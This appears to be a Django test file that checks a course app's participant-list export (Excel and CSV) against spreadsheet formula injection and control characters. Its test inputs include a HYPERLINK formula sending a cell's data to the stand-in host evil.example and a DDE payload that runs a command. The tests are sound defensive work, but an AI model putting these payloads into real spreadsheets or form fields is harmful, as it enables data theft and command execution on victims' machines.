"""The participant list never carries a live formula, whatever a participant calls themselves."""

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook

from kompetencedialog.courses.services import enrol
from tests.conftest import client_for

EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"Klik her")'


def _export(world, run, fmt):
    address = reverse("courses:export", kwargs={"course_run_id": run.pk, "fmt": fmt})
    response = client_for(world.administration).get(address)
    assert response.status_code == 200
    return response.content


def test_a_name_that_is_a_formula_is_text_in_the_excel_list(world, run):
    world.staff.name = EVIL
    world.staff.save()
    enrol(run=run, person=world.staff, by=world.staff)

    sheet = load_workbook(io.BytesIO(_export(world, run, "xlsx"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    names = [cell.value for cell in sheet["A"]]
    assert "'" + EVIL in names


def test_a_name_that_is_a_formula_is_prefixed_in_the_csv_list(world, run):
    world.staff.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    world.staff.save()
    enrol(run=run, person=world.staff, by=world.staff)

    text = _export(world, run, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1][0] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[1][1] == world.staff.email


def test_a_control_character_in_a_name_does_not_break_the_excel_list(world, run):
    world.staff.name = "Per\x0bPædagog\x01"
    world.staff.save()
    enrol(run=run, person=world.staff, by=world.staff)

    sheet = load_workbook(io.BytesIO(_export(world, run, "xlsx"))).active
    assert sheet["A2"].value == "Per\nPædagog"
